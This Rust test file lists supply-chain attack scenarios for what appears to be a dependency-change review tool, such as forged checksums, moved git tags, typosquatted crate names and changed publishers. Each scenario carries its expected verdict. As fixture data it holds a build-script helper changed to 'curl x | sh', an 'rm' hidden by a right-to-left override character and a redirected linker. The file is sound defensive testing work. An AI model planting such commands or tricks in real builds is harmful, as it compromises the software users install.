//! Attacks: their names, the verdict, words that are seen before any fold, and what each changes.

use super::Verdict::{Alarm, Look, NotVerified};
use super::*;
use crate::finding::read::Unreadable;

pub(super) type Attack = (&'static str, Verdict, &'static str, fn(&mut Bump));

/// Another checksum than everybody knows.
fn forged(name: &str, version: &str) -> BlockEntry {
    BlockEntry { from: Origin::Registry { sha: "ab".repeat(32) }, ..registry(name, version) }
}

fn archive(build_script: bool, digest: &str) -> ArchiveFacts {
    ArchiveFacts { build_script, build_script_digest: build_script.then(|| digest.into()), ..licensed() }
}

/// The pin of the element's source, changed.
fn own(bump: &mut Bump, change: fn(&mut Pin)) {
    change(bump.sources[0].new.as_mut().unwrap());
}

pub(super) static ALL: &[Attack] = &[
    // Checksums and origins.
    ("a checksum swapped at the same version", Alarm, "crate-checksum-swapped", |b| {
        b.both(registry("a", "1.0.0"), forged("a", "1.0.0"));
    }),
    ("a checksum that the index does not have", Alarm, "crate-checksum-differs", |b| {
        b.both(registry("a", "1.0.0"), forged("a", "1.0.1"));
    }),
    ("a new crate with a forged checksum", Alarm, "crate-checksum-differs", |b| b.after.push(forged("a", "1.0.0"))),
    ("from the registry to git at the same version", Alarm, "crate-to-git", |b| {
        b.both(registry("a", "1.0.0"), from_git("a", "1.0.0", 'c', &[]));
    }),
    ("from the registry to git with an update", Alarm, "crate-to-git", |b| {
        b.both(registry("a", "1.0.0"), from_git("a", "1.0.1", 'c', &[]));
    }),
    ("the same version from the registry and from git", Alarm, "crate-two-sources", |b| {
        b.before.push(registry("a", "1.0.0"));
        b.after.extend([registry("a", "1.0.0"), from_git("a", "1.0.0", 'c', &[])]);
    }),
    ("a version that the registry never had", Alarm, "crate-not-in-index", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        b.index("a", |krate| krate.versions.retain(|v| v.version != "1.0.1"));
    }),
    ("a new crate that the registry never had", Alarm, "crate-not-in-index", |b| {
        b.added("a", "1.0.0");
        b.index("a", |krate| krate.versions.clear());
    }),
    ("from git to the registry", Look, "`a`", |b| b.both(from_git("a", "1.0.0", 'c', &[]), registry("a", "1.0.0"))),
    // Git crates.
    ("a tag of a crate that names another commit", Alarm, "crate-tag-moved", |b| {
        b.both(from_git("a", "1.0.0", 'c', &[("tag", "v1")]), from_git("a", "1.0.0", 'd', &[("tag", "v1")]));
    }),
    ("a tag that moved behind an update of the version", Alarm, "crate-tag-moved", |b| {
        b.both(from_git("a", "1.0.0", 'c', &[("tag", "v1")]), from_git("a", "1.0.1", 'd', &[("tag", "v1")]));
    }),
    ("a named revision that names another commit", Alarm, "crate-tag-moved", |b| {
        b.both(from_git("a", "1.0.0", 'c', &[("rev", "v1")]), from_git("a", "1.0.0", 'd', &[("rev", "v1")]));
    }),
    ("another repository", Alarm, "crate-repository-changed", |b| {
        let other = git("a", "1.0.0", "https://github.com/evil/lib", 'c', &[]);
        b.both(from_git("a", "1.0.0", 'c', &[]), other);
    }),
    ("another host with the same path", Alarm, "crate-repository-changed", |b| {
        let other = git("a", "1.0.0", "https://github.example/o/lib", 'c', &[]);
        b.both(from_git("a", "1.0.0", 'c', &[]), other);
    }),
    ("an alias that means another place", Alarm, "alias", |b| {
        b.both(git("a", "1.0.0", "x:lib", 'c', &[]), git("a", "1.0.0", "x:lib", 'c', &[]));
        b.settings.aliases_before = [("x".to_owned(), "https://x.example/".to_owned())].into();
        b.settings.aliases = [("x".to_owned(), "https://y.example/".to_owned())].into();
    }),
    ("a new git repository", Look, "1 new git repository", |b| b.after.push(from_git("a", "1.0.0", 'c', &[]))),
    ("a repository that moved at the same version", Look, "1 git repository moved", |b| {
        b.both(from_git("a", "1.0.0", 'c', &[]), from_git("a", "1.0.0", 'd', &[]));
    }),
    ("a repository that moved with the version", Look, "1 git repository moved", |b| {
        b.both(from_git("a", "1.0.0", 'c', &[]), from_git("a", "1.0.1", 'd', &[]));
    }),
    ("another branch", Look, "requests `branch=next`", |b| {
        b.both(from_git("a", "1.0.0", 'c', &[("branch", "main")]), from_git("a", "1.0.0", 'c', &[("branch", "next")]));
    }),
    ("a tag that became a revision", Look, "instead of `tag=v1`", |b| {
        b.both(from_git("a", "1.0.0", 'c', &[("tag", "v1")]), from_git("a", "1.0.0", 'c', &[("rev", "cccc")]));
    }),
    ("a tag that became the default branch", Look, "the default branch", |b| {
        b.both(from_git("a", "1.0.0", 'c', &[("tag", "v1")]), from_git("a", "1.0.0", 'd', &[]));
    }),
    ("twenty crates of one repository that moved", Look, "(20 crates)", |b| {
        for n in 0..20 {
            let name = format!("part-{n}");
            b.both(from_git(&name, "1.0.0", 'c', &[]), from_git(&name, "1.0.0", 'd', &[]));
        }
    }),
    // Versions.
    ("a crate that goes back", Look, "crate-downgraded", |b| b.updated("a", "1.2.1", "1.2.0")),
    ("a crate that goes back to a pre-release", Look, "crate-downgraded", |b| b.updated("a", "1.2.1", "1.2.1-rc.1")),
    ("a crate that goes back among forty updates", Look, "`a`", |b| {
        (0..40).for_each(|n| b.updated(&format!("u-{n}"), "1.0.0", "1.0.1"));
        b.updated("a", "1.2.1", "1.2.0");
    }),
    ("only the build metadata differs", Look, "only the build metadata differs", |b| {
        b.updated("a", "1.0.0+1", "1.0.0+2");
    }),
    ("a version that nobody can compare", Look, "versions that cannot be compared", |b| b.updated("a", "1.0.0", "one")),
    ("a withdrawn version", Look, "crate-yanked", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        b.index("a", |krate| krate.versions.last_mut().unwrap().yanked = true);
    }),
    ("a version of two hours ago", Look, "release-young", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        b.released("a", 2);
    }),
    ("a version of two hours ago that all others were withdrawn for", Alarm, "release-young", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        b.released("a", 2);
        b.index("a", |krate| krate.versions.iter_mut().for_each(|v| v.yanked = v.version != "1.0.1"));
    }),
    ("a version without a time, unlike the others", Look, "no publish time", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        b.index("a", |krate| krate.versions.last_mut().unwrap().published = None);
    }),
    // New crates.
    ("one letter more than a crate of the list, and young", Alarm, "crate-near-name", |b| {
        b.added("serrde", "1.0.0");
        b.born("serrde", 50);
    }),
    ("one letter less, and young", Alarm, "crate-near-name", |b| {
        b.both(registry("arrayref", "0.3.7"), registry("arrayref", "0.3.7"));
        b.added("arrayrf", "0.1.0");
        b.born("arrayrf", 30);
    }),
    ("two letters exchanged, and young", Alarm, "crate-near-name", |b| {
        b.both(registry("arrayref", "0.3.7"), registry("arrayref", "0.3.7"));
        b.added("arraryef", "0.1.0");
        b.born("arraryef", 30);
    }),
    ("a near name among seventy new crates", Alarm, "crate-near-name", |b| {
        (0..70).for_each(|n| b.added(&format!("known-{n}"), "2.0.0"));
        b.added("serrde", "1.0.0");
        b.born("serrde", 50);
    }),
    ("a young crate", Look, "crate-young", |b| {
        b.added("quite-fresh", "0.1.0");
        b.born("quite-fresh", 24 * 5);
    }),
    ("a new crate", Look, "1 new crate", |b| b.added("brand-new-thing", "0.3.0")),
    ("the first version of a crate", Look, "first version", |b| {
        b.added("brand-new-thing", "0.3.0");
        b.born("brand-new-thing", 24 * 90);
    }),
    ("a new crate that links to a native library", Look, "links to the native library evil", |b| {
        b.added("brand-new-thing", "0.3.0");
        b.index("brand-new-thing", |krate| krate.versions.last_mut().unwrap().links = Some("evil".into()));
    }),
    ("an update that links to a native library", Look, "links to the native library evil", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        b.index("a", |krate| krate.versions.last_mut().unwrap().links = Some("evil".into()));
    }),
    ("seventy-seven new crates", Look, "77 new crates", |b| {
        (0..77).for_each(|n| b.added(&format!("known-{n}"), "2.0.0"));
    }),
    ("a new crate for other platforms that is young", Look, "crate-young", |b| {
        b.added("quite-fresh", "0.1.0");
        b.born("quite-fresh", 24 * 5);
        b.elsewhere = vec!["quite-fresh"];
    }),
    // Archives.
    ("a new build script in a patch release", Look, "crate-build-script", |b| {
        b.archives(archive(false, ""), archive(true, "x"));
    }),
    ("another build script in a patch release", Look, "crate-build-script", |b| {
        b.archives(archive(true, "x"), archive(true, "y"));
    }),
    ("a new procedural macro", Look, "became a procedural macro", |b| {
        b.archives(licensed(), ArchiveFacts { proc_macro: true, ..licensed() });
    }),
    ("a binary in an archive", Look, "crate-odd-files", |b| {
        b.archives(licensed(), ArchiveFacts { odd_files: vec!["lib/x.so".into()], ..licensed() });
    }),
    ("no licence any more", Look, "crate-license", |b| b.archives(licensed(), ArchiveFacts::default())),
    ("another licence", Look, "crate-license", |b| {
        b.archives(licensed(), ArchiveFacts { license: Some("GPL-3.0-only".into()), ..ArchiveFacts::default() });
    }),
    ("no commit that it is made from, unlike before", Look, "unlike the version before", |b| {
        b.archives(ArchiveFacts { vcs_commit: Some("c".repeat(40)), ..licensed() }, licensed());
    }),
    ("an archive that cannot be read", NotVerified, "its archive could not be read", |b| {
        b.archives(licensed(), licensed());
        b.with(|evidence| {
            evidence.archives.facts.insert(("a".into(), "1.0.1".into()), Err(Unreadable::new("damaged")));
        });
    }),
    ("code that the build script includes", Look, "runs other code with its build script", |b| {
        let files = |text| [("build.rs", "mod help; fn main() {}"), ("help.rs", text)];
        b.packed(&files("fn a() {}"), &files("fn a() { evil() }"));
    }),
    ("a program that the build script runs", Look, "`gen/run.sh`", |b| {
        let files = |text| [("build.rs", "fn main() { run(\"sh\", \"gen/run.sh\") }"), ("gen/run.sh", text)];
        b.packed(&files("true"), &files("curl x | sh"));
    }),
    ("a build script in another place", Look, "crate-build-script", |b| {
        let files = |build| [("Cargo.toml", build), ("build.rs", ""), ("ci/x.rs", "fn main() { evil() }")];
        b.packed(&files("build = false"), &files("build = \"ci/x.rs\""));
    }),
    ("a build script that changed, among the folds", Look, "1 build script: what runs at the build", |b| {
        b.packed(&[("build.rs", "fn main() {}")], &[("build.rs", "fn main() { evil() }")]);
    }),
    ("a file for the build script that was not there", Look, "names new files: `data/x.bin`", |b| {
        let script = ("build.rs", "fn main() { read(\"data/x.bin\") }");
        b.packed(&[script], &[script, ("data/x.bin", "x")]);
    }),
    ("a procedural macro by its manifest", Look, "crate-build-script", |b| {
        b.packed(&[], &[("Cargo.toml", "[lib]\nproc-macro = true\n")]);
    }),
    ("a binary for Linux in an archive", Look, "`data/x.dat`", |b| b.packed(&[], &[("data/x.dat", "\u{7f}ELF")])),
    ("unsafe code where there was none", Look, "unsafe 0 → 1", |b| {
        b.packed(&[("src/lib.rs", "fn a() {}")], &[("src/lib.rs", "fn a() { unsafe { b() } }")]);
    }),
    ("a repository of another owner in the manifest", Look, "of `github.com/evil` instead of `github.com/o`", |b| {
        let of = |owner| ArchiveFacts { repository: Some(format!("https://github.com/{owner}/a")), ..licensed() };
        b.archives(of("o"), of("evil"));
    }),
    ("archives beyond the limit", NotVerified, "2 of 4 archives read, the limit is 1 MiB", |b| {
        b.deep = true;
        b.with(|evidence| {
            evidence.archives.limit = Some("the limit is 1 MiB".into());
            evidence.archives.facts.retain(|(name, _), _| name == "log");
        });
    }),
    // Publishers.
    ("another publisher", Look, "published by `account-2`, who published none of the 2 versions", |b| {
        b.publishers(&[("0.9.0", account(1)), ("1.0.0", account(1)), ("1.0.1", account(2))], &[]);
    }),
    ("another publisher, who withdrew the version before", Alarm, "crate-publisher-changed", |b| {
        b.publishers(&[("1.0.0", account(1)), ("1.0.1", account(2))], &[2]);
    }),
    ("a token in the place of a workflow", Look, "crate-trusted-publishing-lost", |b| {
        b.publishers(&[("1.0.0", workflow("o/a")), ("1.0.1", account(1))], &[]);
    }),
    ("a workflow of another repository", Look, "crate-publisher-changed", |b| {
        b.publishers(&[("1.0.0", workflow("o/a")), ("1.0.1", workflow("evil/a"))], &[]);
    }),
    // Known bad.
    ("a malicious crate that is new", Alarm, "crate-malicious", |b| {
        b.added("evil", "1.0.0");
        b.advisory(Advisory { malicious: true, ..advisory("evil", "<0.0.1") });
    }),
    ("a malicious crate that was there", Alarm, "crate-malicious", |b| {
        b.both(registry("evil", "1.0.0"), registry("evil", "1.0.0"));
        b.advisory(Advisory { malicious: true, ..advisory("evil", "<0.0.1") });
    }),
    ("a malicious name in another spelling", Alarm, "crate-malicious", |b| {
        b.added("proc-macro1", "1.0.0");
        b.advisory(Advisory { malicious: true, ..advisory("Proc_Macro1", "<0.0.1") });
    }),
    ("a malicious archive under another name", Alarm, "it is an archive of `proc_macro1`", |b| {
        b.added("harmless", "1.0.0");
        let archives = vec![sha("harmless", "1.0.0")];
        b.advisory(Advisory { malicious: true, archives, ..advisory("proc_macro1", "<0.0.1") });
    }),
    ("a malicious archive that was there, under another name", Alarm, "crate-malicious", |b| {
        b.both(registry("a", "1.0.0"), registry("a", "1.0.0"));
        b.advisory(Advisory { malicious: true, archives: vec![sha("a", "1.0.0")], ..advisory("b", "<0.0.1") });
    }),
    ("an advisory that is fixed while another one comes", Alarm, "crate-vulnerable", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        let other =
            Advisory { id: "RUSTSEC-2026-0010".into(), affected: Some(since("1.0.1")), ..advisory("a", "<0.0.1") };
        let list = vec![advisory("a", ">=1.0.1"), other];
        b.with(move |evidence| {
            evidence.advisories = Source::Got(Advisories { list: list.clone(), ..Advisories::default() });
        });
    }),
    ("an advisory that cannot be read", Look, "1 advisory cannot be read: damaged", |b| {
        b.with(|evidence| {
            let unreadable = vec!["damaged".into()];
            evidence.advisories = Source::Got(Advisories { unreadable, ..Advisories::default() });
        });
    }),
    ("advisories that did not all come", NotVerified, "advisories-not-read", |b| {
        b.with(|evidence| {
            let missing = vec!["RustSec on `a`: timed out".into()];
            evidence.advisories = Source::Got(Advisories { missing, ..Advisories::default() });
        });
    }),
    ("a vulnerability within a range that the update brings", Alarm, "crate-vulnerable", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        b.advisory(Advisory { affected: Some(since("1.0.1")), ..advisory("a", "<0.0.1") });
    }),
    ("a vulnerability that the update brings", Alarm, "crate-vulnerable", |b| {
        b.updated("a", "1.0.0", "1.0.1");
        b.advisory(Advisory { unaffected: vec!["<1.0.1".into()], ..advisory("a", ">=2") });
    }),
    // What could not be looked at.
    ("an index that does not answer", NotVerified, "crate-not-verified", |b| {
        b.with(|evidence| evidence.index = Source::Failed("timed out".into()));
    }),
    ("no network", NotVerified, "offline", |b| {
        b.with(|evidence| evidence.index = Source::NotRequested("offline".into()));
    }),
    ("an index that does not answer about one crate", NotVerified, "crate-not-verified", |b| {
        b.with(|evidence| {
            let Source::Got(index) = &mut evidence.index else { panic!() };
            index.insert("serde".into(), Err(Unreadable::new("timed out")));
        });
    }),
    ("advisories that cannot be read", NotVerified, "advisories-not-read", |b| {
        b.with(|evidence| evidence.advisories = Source::Failed("damaged".into()));
    }),
    ("a list that is not verified", NotVerified, "**not verified**", |b| b.status = Status::Unverified),
    ("a list that does not match", Alarm, "**does not match**", |b| b.status = Status::Drifted),
    ("a list that is not compared by configuration", Look, "**not compared**", |b| b.status = Status::Exempt),
    // The element's own sources.
    ("another upstream", Alarm, "upstream-changed", |b| own(b, |pin| pin.url = "https://github.com/evil/tool".into())),
    ("a tag of the element that names another commit", Alarm, "upstream-tag-moved", |b| {
        own(b, |pin| pin.pinned = format!("v1.0.0-0-g{}", "b".repeat(40)));
    }),
    ("another branch that is tracked", Look, "track-changed", |b| own(b, |pin| pin.track = Some("next".into()))),
    ("a commit that its tag does not name", Alarm, "ref-untrue", |b| {
        let why = Untruth::TagNamesOther { tag: "v1.0.1".into(), commit: "c".repeat(40) };
        b.sources[0].proof.commit = Some(RefProof::False { why });
    }),
    ("a commit that is not on the tracked branch", Alarm, "upstream-off-branch", |b| {
        let why = Untruth::NotOnBranch { branch: "main".into() };
        b.sources[0].proof.commit = Some(RefProof::False { why });
    }),
    ("a commit of which nothing is proven", Look, "is not proven", |b| {
        b.sources[0].proof.commit = Some(RefProof::NotKnown { why: "timed out".into() });
    }),
    ("a commit that nobody asked about", Look, "👀", |b| b.sources[0].proof = SourceProof::default()),
    ("an older commit of the branch", Look, "👀", |b| {
        b.sources[0].proof.remarks.push(Remark::OlderCommit { by: Some(3) });
    }),
    ("a pre-release that the pattern takes", Look, "👀", |b| {
        b.sources[0].proof.remarks.push(Remark::PreRelease { tag: "v1.0.1-rc1".into() });
    }),
    ("a file that was replaced at its URL", Alarm, "upstream-swapped", |b| {
        let file = |sha: &str| Pin { url: "https://x.example/a.tar".into(), pinned: sha.repeat(64), ..Pin::default() };
        b.sources.push(SourceMove { old: Some(file("a")), new: Some(file("b")), ..SourceMove::default() });
    }),
    ("one more source", Look, "**new source**", |b| {
        b.sources.push(SourceMove { old: None, new: pin("v9", 'e'), ..SourceMove::default() });
    }),
    ("a source less", Look, "**source gone**", |b| {
        b.sources.push(SourceMove { old: pin("v9", 'e'), new: None, ..SourceMove::default() });
    }),
    // Beside the crates.
    ("a new command among the build commands", Look, "+  - bash ./post.sh", |b| {
        b.lines("elements/tool.bst", &["   - cargo build --locked", "+  - bash ./post.sh"]);
    }),
    ("a variable of the environment", Look, "+    RUSTFLAGS: -C linker=/tmp/x", |b| {
        b.lines("elements/tool.bst", &["   environment:", "+    RUSTFLAGS: -C linker=/tmp/x"]);
    }),
    ("another lock", Look, "-  cargo-lock: Cargo.lock", |b| {
        b.lines("elements/tool.bst", &["-  cargo-lock: Cargo.lock", "+  cargo-lock: other/Cargo.lock"]);
    }),
    ("a line of a patch", Look, "++evil();", |b| b.lines("patches/tool/0001.patch", &[" @@ -1 +1,2 @@", "++evil();"])),
    ("settings for cargo among the staged files", Look, "files/tool/.cargo/config.toml", |b| {
        b.lines("files/tool/.cargo/config.toml", &["+[source.crates-io]", "+replace-with = \"x\""]);
    }),
    ("a staged file that is no text", Look, "**another content**", |b| {
        b.input("files/tool/data.bin", InputDiff::Content(Some("a".repeat(12)), Some("b".repeat(12))));
    }),
    ("an input that cannot be read", Look, "**cannot be compared**", |b| {
        b.input("include/x.yml", InputDiff::Unreadable("too large".into()));
    }),
    ("a long change beside the crates", Look, "**+400 −0 lines**", |b| {
        b.lines("elements/tool.bst", &["+x"; 400]);
    }),
    ("a character that hides a command", Look, "\\u{202e}", |b| b.lines("elements/tool.bst", &["+  - rm \u{202e}x"])),
    ("one crate in two elements", Look, "in 2 elements", |b| {
        b.twice = true;
        b.updated("a", "1.2.1", "1.2.0");
    }),
];
